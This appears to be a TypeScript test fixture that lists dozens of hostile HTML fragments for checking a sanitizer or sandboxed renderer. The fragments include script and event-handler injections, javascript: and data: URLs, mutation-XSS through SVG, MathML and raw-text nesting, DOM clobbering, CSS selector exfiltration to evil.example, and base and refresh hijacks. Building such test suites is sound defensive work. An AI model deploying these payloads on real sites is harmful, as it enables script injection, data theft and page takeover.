/**
 * Pieces of hostile pages. Each that runs would set `pwned`, ask for `/pwned` or something of evil.example, or lead there.
 */
export const HOSTILE: Record<string, string> = {
  'a script': '<script>pwned=1</script><script src=/pwned.js></script><script type=module>pwned=1</script>',
  'a script in odd case': '<ScRiPt\n>pwned=1</sCrIpT\t>',
  'half a script': '<scr<script>ipt>pwned=1</scr</script>ipt>',
  'event attributes':
    '<img src=x onerror=pwned=1><body onload=pwned=1><p OnMouseOver="pwned=1" onclick=pwned=1>x',
  'an event attribute after a slash': '<img/src=x/onerror=pwned=1><svg/onload=pwned=1>',
  'an attribute with a quote in it': `<p title='"><script>pwned=1</script>'>x</p><p class="a&quot;onclick=&quot;pwned=1">x</p>`,
  'a backtick': '<img alt="``onerror=pwned=1" src=`x`>',
  'addresses of scripts': `<a href="javascript:pwned=1">x</a><a href="&#106;ava\tscript:pwned=1">x</a><a href="data:text/html,<script>pwned=1</script>">x</a><img src="javascript:pwned=1">`,
  frames: `<iframe src="/pwned"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="javascript:parent.pwned=1"></iframe>`,
  objects:
    '<object data=/pwned></object><embed src=/pwned.swf><applet code=pwned></applet><object type=text/html data=/pwned><img src=/pwned></object>',
  'a refresh':
    '<meta http-equiv=refresh content="0;url=/pwned"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  'a base': '<base href="http://evil.example/" target=_top><a href=/pwned target=_top>x</a>',
  forms:
    '<form action=/pwned method=post target=_top name=querySelector><input name=children autofocus onfocus=pwned=1><input type=submit formaction=/pwned><button form=f formaction=/pwned>x</button><input type=image src=/pwned></form><isindex action=/pwned>',
  'clobbering names':
    '<img name=elementFromPoint id=elementFromPoint><a id=x name=defaultView></a><object id=body></object>',
  SVG: '<svg><script>pwned=1</script><use href="/pwned#x"/><image href=/pwned /><a xlink:href="javascript:pwned=1"><text>x</text></a><animate attributeName=href values="javascript:pwned=1"/><set attributeName=onload to=pwned=1 /></svg>',
  'HTML in SVG':
    '<svg><foreignObject><iframe srcdoc="<script>pwned=1</script>"></iframe><body onload=pwned=1></foreignObject><style><img src=x onerror=pwned=1></style></svg>',
  MathML:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned=1&gt;"></mglyph></table></mtext><maction actiontype=statusline xlink:href=javascript:pwned=1>x</maction></math>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=pwned=1>"></noscript>',
  'a comment':
    '<!--><script>pwned=1</script>--><!-- --!><img src=x onerror=pwned=1> --><![CDATA[<script>pwned=1</script>]]>',
  'raw texts':
    '<textarea></textarea><script>pwned=1</script><title></title><img src=x onerror=pwned=1><xmp></xmp><img src=x onerror=pwned=1><noembed></noembed><img src=x onerror=pwned=1><plaintext><img src=x onerror=pwned=1>',
  'a textarea':
    '<textarea><img src=x onerror=pwned=1>&lt;/textarea&gt;&lt;script&gt;pwned=1&lt;/script&gt;</textarea>',
  'a style':
    '<style>a::after{content:"</style><script>pwned=1</script>"}</style><style><!--</style><img src=x onerror=pwned=1>--></style>',
  'escapes in a style': String.raw`<style>a{content:"\3c/style\3e\3cscript\3epwned=1"}\3c/style{x:y}b{background:u\72l(/pwned1)}c{background:\000075rl("/pwned2")}@\69mport "/pwned3";d{width:e\78pression(pwned=1)}</style>`,
  'what a style loads': `<style>@import url(//evil.example/pwned.css);@import'/pwned4.css'screen;@font-face{font-family:x;src:url(/pwned.woff)}a{background:image-set("/pwned5" 1x);cursor:url(/pwned6),auto;filter:url(/pwned7#x);background:src("/pwned8");-webkit-mask:url(/pwned9);list-style:url( '/pwned10' )}@namespace url(/pwned11);@document url(x){a{color:red}}</style>`,
  'behaviour of a style': `<p style="behavior:url(/pwned);-moz-binding:url(/pwned#x);width:expression(pwned=1);background:url(javascript:pwned=1);position:fixed;top:0">x</p><div style="pos\\69tion:fi\\78ed;inset:0;z-index:99999">x</div><div style="--p:fixed;position:var(--p)">x</div>`,
  'a style that is not closed': '<style>a{background:url("/pwned',
  'comments in a style':
    '<style>a{position:/**/fixed;background:url/**/(/pwned);}/*</style><script>pwned=1</script>',
  'broken nesting':
    '<table><a href=javascript:pwned=1><tr><td><form><div><p><b><table><script>pwned=1</script><a><a><select><option><script>pwned=1</script><img src=x onerror=pwned=1></select></b>',
  'a select':
    '<select><template><script>pwned=1</script></template><img src=x onerror=pwned=1><option onclick=pwned=1 selected>x</select><select autofocus onfocus=pwned=1>',
  'a shadow root':
    '<div><template shadowrootmode=open><script>pwned=1</script><slot></slot></template></div>',
  media:
    '<video src=/pwned poster=/pwned autoplay onplay=pwned=1><source src=/pwned onerror=pwned=1></video><audio src=/pwned autoplay></audio><picture><source srcset=/pwned></picture><img src=x srcset="/pwned 2x" crossorigin longdesc=/pwned usemap=#m lowsrc=/pwned dynsrc=/pwned ping=/pwned>',
  'links of the head':
    '<link rel=import href=/pwned><link rel=prefetch href=/pwned><link rel=manifest href=/pwned><link rel=icon href=/pwned><link rel="stylesheet" href="javascript:pwned=1"><link rel=stylesheet href="data:text/css,*{color:red}"><link rel=dns-prefetch href=//evil.example>',
  customs:
    '<x-pwned is=x onclick=pwned=1><marquee onstart=pwned=1>x</marquee><details open ontoggle=pwned=1><summary>x</summary>x</details><dialog open><p popover contenteditable draggable=true accesskey=x tabindex=1 autofocus>x</dialog><keygen autofocus onfocus=pwned=1><image src=x onerror=pwned=1>',
  'zeros and controls':
    '<scr\0ipt>pwned=1</scr\0ipt><img src=x on\0error=pwned=1><p class="\0\x01\x1b">\0</p><a href="\x01javascript:pwned=1">x</a>',
  'names of objects':
    '<constructor><__proto__ onclick=pwned=1 constructor=x toString=y __proto__=z hasOwnProperty=1></__proto__>',
  'a frameset':
    '<frameset onload=pwned=1><frame src=/pwned><noframes><script>pwned=1</script></noframes></frameset>',
  'scripts of inner frames': `<iframe srcdoc="<script>top.pwned=1</script><meta http-equiv=refresh content='0;url=/pwned'>"></iframe><iframe src="data:text/html,<script>top.location='/pwned'</script>"></iframe><object data="data:text/html,<script>top.pwned=1</script>"></object><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'/>"><iframe name="<script>pwned=1</script>" srcdoc="<iframe srcdoc='<img src=x onerror=top.pwned=1>'></iframe>"></iframe><portal src=/pwned></portal><fencedframe src=/pwned></fencedframe>`,
  'links that load ahead': `<link rel=preload as=image href=//evil.example/a><link rel=preload as=style href=//evil.example/b onload="this.rel='stylesheet'"><link rel=modulepreload href=//evil.example/c><link rel=prefetch href=//evil.example/d><link rel=prerender href=//evil.example/e><link rel=preconnect href=//evil.example><link rel=dns-prefetch href=//evil.example><link rel=preload as=image imagesrcset="//evil.example/f 1x"><link rel=stylesheet href=//evil.example/g onerror=pwned=1><link rel="manifest" href=//evil.example/h><script type=speculationrules>{"prefetch":[{"source":"list","urls":["/pwned"]}]}</script>`,
  'a base and what it moves':
    '<base href=//evil.example/><base target=_top><img src=anh.png><link rel=stylesheet href=a.css><a href=a ping=/pwned>x</a><style>@import "b.css";p{background:url(c.png)}</style><p>x',
  'what images ask': `<img srcset="//evil.example/a 1x, //evil.example/b 2x" sizes=100vw src=//evil.example/c loading=eager fetchpriority=high attributionsrc=//evil.example/d><picture><source srcset=//evil.example/e type=image/webp><img src=//evil.example/f></picture><input type=image src=//evil.example/g onerror=pwned=1><body background=//evil.example/h><table background=//evil.example/i><td background=//evil.example/j>x</table><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='//evil.example/k'/></svg>"><img src=blob:x><img ismap usemap=#m src=//evil.example/l><map name=m><area href=javascript:pwned=1 shape=default></map>`,
  'what media ask':
    '<video src=//evil.example/a poster=//evil.example/b autoplay muted><track default src=//evil.example/c></video><audio src=//evil.example/d autoplay></audio><object data=//evil.example/e type=image/png></object><object type=application/x-shockwave-flash><param name=movie value=//evil.example/f></object><embed src=//evil.example/g><bgsound src=//evil.example/h><html manifest=//evil.example/i><model src=//evil.example/j></model>',
  'what a style asks by what it matches': `<input value=abc><a href=/x class=a>x</a><style>input[value^=a]{background:url(//evil.example/a)}a[href^="/"]{background:image-set("//evil.example/b" 1x)}a:visited{background:-webkit-image-set(url(//evil.example/c) 1x)}a.a{background:cross-fade(url(//evil.example/d),url(//evil.example/e),50%);mask:url(//evil.example/f#x);clip-path:url(//evil.example/g#x);shape-outside:url(//evil.example/h);filter:url(//evil.example/i#x);fill:url(//evil.example/j#x);marker:url(//evil.example/k#x);cursor:url(//evil.example/l),auto;border-image:url(//evil.example/m) 1;content:url(//evil.example/n);-webkit-box-reflect:below 0 url(//evil.example/o);offset-path:url(//evil.example/p#x);list-style:url(//evil.example/q)}@font-face{font-family:f;src:url(//evil.example/r);unicode-range:U+61}a{font-family:f}@counter-style c{system:cyclic;symbols:url(//evil.example/s)}a{--u:url(//evil.example/t);background:var(--u)}a{&{background:url(//evil.example/u)}}@supports (display:block){@layer l{a{background:url(//evil.example/v)}}}@scope (a){:scope{background:url(//evil.example/w)}}@import url(//evil.example/x) layer(l) supports(display:block) screen;@property --i{syntax:"<image>";inherits:false;initial-value:url(//evil.example/y)}</style>`,
  'handlers that need no user':
    '<body onpageshow=pwned=1 onload=pwned=1 onresize=pwned=1 onfocus=pwned=1><input autofocus onfocus=pwned=1><p autofocus tabindex=0 onfocus=pwned=1>x</p><p oncontentvisibilityautostatechange=pwned=1 style=content-visibility:auto>x</p><style onload=pwned=1>a{}</style><style>@keyframes k{}b{animation:k 1s}i{transition:color 1ms}</style><b onanimationstart=pwned=1 onanimationend=pwned=1>x</b><i ontransitionend=pwned=1>x</i><link rel=stylesheet href=/x.css onload=pwned=1 onerror=pwned=1><object data=x onerror=pwned=1></object><video onloadstart=pwned=1 src=x></video><audio src=x onerror=pwned=1></audio><details open ontoggle=pwned=1>x</details><iframe onload=pwned=1></iframe><svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s /><set onbegin=pwned=1 attributeName=x /></svg><dialog open onbeforetoggle=pwned=1>x</dialog><marquee onstart=pwned=1 loop=1>x</marquee>',
  'what a click does':
    '<a href=/pwned>x</a> <a href=/pwned target=_top>x</a> <a href=/pwned target=_blank rel=opener>x</a> <a href=/pwned download>x</a> <a href=x ping=/pwned onclick=pwned=1 onmousedown=parent.pwned=1>x</a> <form action=/pwned target=_top><input type=submit value=Gui><button formaction=/pwned formtarget=_blank>x</button><button popovertarget=p command=show-popover commandfor=p>x</button><input name=q onkeydown=pwned=1></form><label for=q onclick=pwned=1>x</label><details ontoggle=pwned=1><summary accesskey=x>x</summary>x</details><p id=p popover onbeforetoggle=pwned=1>x</p><select onchange=pwned=1><option>x<option>y</select><a href="mailto:a@evil.example">x</a> <a href="tel:1">x</a>',
  'a refresh to a script': `<meta http-equiv=refresh content="0;url=javascript:top.pwned=1"><meta http-equiv=refresh content="0;url='data:text/html,<script>top.pwned=1</script>'"><meta http-equiv=refresh content="0; /pwned">`,
  'names of what is read in the frame': `<form name=body><input name=getBoundingClientRect><input name=parentElement><input name=childNodes><input name=closest><input name=getAttribute></form><form name=documentElement id=documentElement></form><img name=querySelectorAll id=querySelectorAll><img name=elementFromPoint><img name=elementsFromPoint><embed name=createRange><object name=readyState id=readyState></object><iframe name=URL></iframe><img name=defaultView id=defaultView><form id=x name=x><output name=ownerDocument></output></form><a id=top></a><a id=parent></a><a id=contentDocument></a>`,
  'forms that are their own names':
    '<form name=attributes><input name=attributes><input name=nodeName><input name=tagName><input name=children><img name=getElementById></form><form id=a></form><form id=a name=b><input form=a name=action></form>',
  'styles in MathML':
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwned=1></style></mglyph></form><math><annotation-xml encoding="text/html"><img src=x onerror=pwned=1></annotation-xml></math><math><mi><b><mglyph><svg><mtext><style><a title="</style><img src=x onerror=pwned=1>"></style></mtext></svg></mglyph></b></mi></math>',
  'styles in SVG':
    '<svg></p><style><a id="</style><img src=x onerror=pwned=1>"></style></svg><svg><desc><img src=x onerror=pwned=1></desc><title><img src=x onerror=pwned=1></title><a><foreignobject><body><iframe src="javascript:parent.pwned=1"></iframe></foreignobject></a></svg><table><svg><style><img title="</style><img src=x onerror=pwned=1>"></style></svg></table><svg><style>&lt;img src=x onerror=pwned=1&gt;<![CDATA[</style><img src=x onerror=pwned=1>]]></style></svg>',
  'raw texts in each other':
    '<noscript><style></noscript><img src=x onerror=pwned=1></style><textarea><style></textarea><img src=x onerror=pwned=1></style><xmp><p title="</xmp><img src=x onerror=pwned=1>"></p><select><iframe></select><img src=x onerror=pwned=1></iframe><select><option><style></option></select><b><img src=x onerror=pwned=1></style></b><title><a title="</title><img src=x onerror=pwned=1>"></a><iframe><p title="</iframe><img src=x onerror=pwned=1>"></p>',
  'instructions and entities':
    '<?xml-stylesheet type="text/xsl" href="/pwned"?><?php <img src=x onerror=pwned=1> ?><!DOCTYPE x [<!ENTITY a "<script>pwned=1</script>">]>&a;<!ELEMENT <img src=x onerror=pwned=1>><//img src=x onerror=pwned=1><p title=&quot;&gt;&lt;img&#32;src=x&#32;onerror=pwned=1&gt;>&lt;img src=x onerror=pwned=1&gt;&#60script&#62pwned=1&#60/script&#62',
  'another encoding': `<meta charset=utf-7><meta http-equiv=content-type content="text/html;charset=iso-2022-jp">+ADw-script+AD4-pwned=1+ADw-/script+AD4-<img alt="\x1b$B" title="\x1b(B src=x onerror=pwned=1//">\u00bcscript\u00bepwned=1\u00bc/script\u00be\uff1cscript\uff1epwned=1\uff1c/script\uff1e`,
  'templates that open themselves':
    '<div><template shadowrootmode=open shadowrootdelegatesfocus shadowrootclonable><img src=x onerror=pwned=1><style>@import "//evil.example/a";:host{background:url(//evil.example/b)}</style><slot></slot></template></div><template><template><script>pwned=1</script></template></template><template><style></template><img src=x onerror=pwned=1></style>',
  'a sheet over all':
    '<style>*,*::before{pointer-events:none!important;user-select:none}#a{position:fixed!important;position:sticky;inset:0;z-index:2147483647;background:#fff}html{zoom:3}body{display:none;content-visibility:hidden}</style><div id=a onclick=pwned=1 style="position:fixed;inset:0"><a href=/pwned style="position:absolute;inset:0;display:block">x</a></div><dialog open style=inset:0>x</dialog><div popover style=display:block;inset:0>x</div>',
  'an enormous page':
    '<style>html{height:9999999px;width:9999999px}p{font-size:99999px;margin:-99999px}</style><p>x<p style="width:1e30px;height:1e30px">y<img width=99999 height=99999 src=x onerror=pwned=1>',
};
